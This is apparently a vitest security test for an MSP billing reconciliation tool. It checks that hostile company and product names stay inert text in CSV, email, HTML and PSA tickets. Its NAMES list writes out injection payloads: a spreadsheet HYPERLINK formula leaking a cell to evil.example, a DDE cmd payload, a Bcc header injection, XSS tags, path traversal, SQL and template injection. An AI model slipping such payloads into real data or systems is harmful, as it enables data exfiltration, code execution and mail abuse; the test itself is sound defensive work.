import { parse } from 'csv-parse/sync';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadRegistry } from '../../lambdas/registry.ts';
import { cellOf, type Report } from '../../lambdas/report/report.ts';
import { briefOf } from '../../lambdas/views/brief.ts';
import type { Execution } from '../../scripts/local/engine.ts';
import { readResult, summaryText } from '../../scripts/local/summary.ts';
import { reportIn } from '../report-json.ts';
import { ask } from '../sandbox/answer.ts';
import { type DemoMsp, demoMsp } from '../sandbox/demo-msp.ts';
import { nameInRun } from '../sandbox/psa.ts';
import type { Server } from '../sandbox/vendor.ts';
import { type World, world } from './world.ts';

/** Names that do harm wherever they are not escaped. */
const NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1;"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Quote " and, comma; and \' apostrophe',
  'Line\nbreak\r\nNorthwind MSP,999',
  'Invoice \u202egpj.exe\u200f \u2067x\u2069',
  '<script>alert(1)</script><img src=x onerror="alert(1)">',
  'x\r\nBcc: everybody@evil.example\r\n\r\n<b>body</b>',
  '../../../../etc/passwd',
  'C:\\Windows\\..\\secrets/huntress.json',
  '__proto__',
  'constructor',
  'toString',
  `long ${'x'.repeat(10_000)}`,
  'NUL \u0000 BEL \u0007 ESC \u001b[2J\u001b[31m noncharacter \ufffe half \ud800',
  '{{7*7}} ${7*7} %0d%0aX: y <%= 7 %> #{7}',
  "Robert'); DROP TABLE companies;--",
  '＝1＋1 全角',
  '🧾 Zoë & Söhne ﷽',
];

/** Characters that no spreadsheet, mail program or PSA shows, and the one by which a decoder replaces some of them. */
const UNSHOWN = /[^\P{Cc}\t\r\n]|[\p{Cs}\ufffd\ufffe]/u;

const IDS = ['__proto__', 'constructor', 'a/../../b', 'hasOwnProperty'];

const msp: DemoMsp = {
  ...demoMsp(1),
  companies: demoMsp(NAMES.length).companies.map(({ role: _, ...company }, index) => ({
    ...company,
    enabled: true,
    id: IDS[index] ?? company.id,
    name: NAMES[index] ?? company.name,
  })),
};

/** Pax8 also sells products with such names. */
const withHostileProducts = <S extends Server>(server: S): S => {
  if (server.id !== 'pax8') return server;
  return {
    ...server,
    async handle(request) {
      const response = await ask(server, request);
      if (!request.path.endsWith('/subscriptions') || typeof response.body !== 'object') return response;
      const body: { content: { id: string; productName?: string }[] } = structuredClone(
        JSON.parse(JSON.stringify(response.body)),
      );
      for (const row of body.content) {
        // The product that is priced by usage is recognized by its name.
        if (row.productName !== 'Microsoft Azure Plan') row.productName = NAMES[msp.draw(NAMES.length, row.id)] ?? '';
      }
      return { ...response, body };
    },
  };
};

const vendors = (id: string): boolean => ['huntress', 'pax8', 'microsoft-365', 'duo'].includes(id);

const FILES = [
  ...['report.json', 'report.csv', 'unmapped.csv', 'automation-log.json', 'result.json', 'run.json'],
  ...['billing.json', 'reconciliation.csv', 'reconciliation.json', 'changes.csv', 'changes.json', 'units.csv'],
  ...['terms.csv', 'terms.json', 'report.xlsx', 'report.html', 'delivery-settings.json'],
  ...['report-head.json', 'report-cells.json'],
];

const PIECES = /^[\w./-]+$/u;

describe('hostile text stays text everywhere', () => {
  let mail: World;
  let execution: Execution;
  let report: Report;
  let csv: string[][];
  beforeAll(async () => {
    mail = await world({ msp, vendors, wrap: withHostileProducts });
    execution = await mail.run('hostile');
    report = reportIn((await mail.file('hostile', 'report.json'))?.toString() ?? '');
    csv = parse((await mail.file('hostile', 'report.csv')) ?? '', { bom: true });
  });
  afterAll(() => mail.end());

  it('and the report is made and delivered', () => {
    expect(execution).toMatchObject({ status: 'succeeded', output: { success: true } });
    expect(report.columns.filter(({ title }) => title.startsWith('PAX8 ')).length).toBeGreaterThan(NAMES.length / 2);
  });

  it('report.json has every name unchanged, and every cell under its own title', () => {
    expect(report.rows.map(({ organization }) => organization.name).sort()).toEqual(
      [...NAMES, msp.managing.name].sort(),
    );
    const pax8 = mail.vendors.find(({ id }) => id === 'pax8');
    for (const { company, cells } of pax8?.customers ?? []) {
      const row = report.rows.find(({ organization }) => organization.id === company);
      if (row === undefined) continue;
      const counted = report.columns
        .filter(({ integration }) => integration === 'pax8')
        .map((column) => cellOf(report, row, column))
        .reduce((sum, cell) => sum + (cell?.state === 'counted' ? Number(cell.value) : 0), 0);
      expect(counted).toBeCloseTo(Object.values(cells).reduce<number>((sum, value) => sum + Number(value), 0));
    }
  });

  it('report.csv has a record a company and no field that a spreadsheet would run', () => {
    const [head = [], ...records] = csv;
    expect(records).toHaveLength(NAMES.length + 1);
    expect(head).toHaveLength(report.columns.length + 2);
    for (const field of csv.flat()) {
      expect(field).not.toMatch(UNSHOWN);
      if (!/^-?\d+(\.\d+)?$/u.test(field)) expect(field).not.toMatch(/^[\s\p{Cc}]*[=+\-@\t\r＝＋－＠]/u);
    }
  });

  it('the mail goes only to the configured recipients, with no header from a company, and its HTML runs nothing', async () => {
    const [letter] = mail.sent;
    expect(letter?.recipients).toEqual(['billing@northwind.example']);
    const raw = Buffer.from(letter?.raw ?? []);
    const head = raw.toString().split('\r\n\r\n')[0] ?? '';
    expect(
      head
        .match(/^[\w-]+(?=:)/gmu)
        ?.map((name) => name.toLowerCase())
        .sort(),
    ).toEqual(['content-type', 'date', 'from', 'message-id', 'mime-version', 'subject', 'to'].sort());
    const { attachments, html, text, bcc, cc, subject } = await simpleParser(raw);
    expect(`${html} ${text}`).not.toMatch(UNSHOWN);
    expect([bcc, cc]).toEqual([undefined, undefined]);
    expect(subject).toBe('Billing Reconciliation - November 2026');
    expect(attachments.map(({ filename }) => filename)).toEqual([
      ...['report.csv', 'report.xlsx', 'reconciliation.csv', 'unmapped.csv'],
    ]);
    expect(html).not.toMatch(/<(script|img|b)\b/iu);
  });

  it('the files of the run are the usual ones', async () => {
    const names = [...(await mail.files('hostile')).keys()].map((path) =>
      path.slice(mail.out.length + '/hostile/'.length),
    );
    for (const name of names) expect(name).toMatch(PIECES);
    expect(names.filter((name) => !name.includes('/')).sort()).toEqual([...FILES].sort());
  });

  it('what is printed contains no control character, and log entries stay on their lines', async () => {
    const printed = summaryText({
      execution,
      made: { report, brief: briefOf({ report }) },
      shown: readResult(execution.status === 'succeeded' ? execution.output : undefined),
      folder: 'out/hostile',
    });
    expect(printed).not.toMatch(/[^\P{Cc}\n]/u);
    const log: { entries: { message: string }[] } = JSON.parse(
      (await mail.file('hostile', 'automation-log.json'))?.toString() ?? '',
    );
    for (const { message } of log.entries) expect(message).not.toMatch(/\p{Cc}/u);
  });
});

const { psas } = await loadRegistry();

describe.each(psas.map(({ id }) => id))('hostile text in a ticket of %s', (psa) => {
  it('is text there, and the files are complete', async () => {
    const of = await world({ msp, vendors, psa, wrap: withHostileProducts });
    const execution = await of.run('hostile');
    expect(execution).toMatchObject({ status: 'succeeded', output: { delivery: { attached: true } } });
    const [ticket, ...others] = of.psas.flatMap((desk) => desk.tickets());
    expect(others).toEqual([]);
    expect(ticket?.title).toContain('Billing Reconciliation');
    expect(ticket?.title.length).toBeLessThan(200);
    expect(ticket?.description).not.toMatch(UNSHOWN);
    expect(ticket?.attachments.map(({ name }) => nameInRun(name)).sort()).toEqual([
      // The demo's agreements are in ConnectWise PSA.
      ...(psa === 'connectwise-psa' ? ['reconciliation.csv'] : []),
      ...['report.csv', 'report.xlsx', 'unmapped.csv'],
    ]);
    for (const { name, bytes } of ticket?.attachments ?? [])
      expect(Buffer.from(bytes).equals((await of.file('hostile', nameInRun(name))) ?? Buffer.alloc(0))).toBe(true);
    if (/<(p|br|ul|table|h\d)\b/iu.test(ticket?.description ?? ''))
      expect(ticket?.description).not.toMatch(/<(script|img)\b/iu);
    await of.end();
  });
});
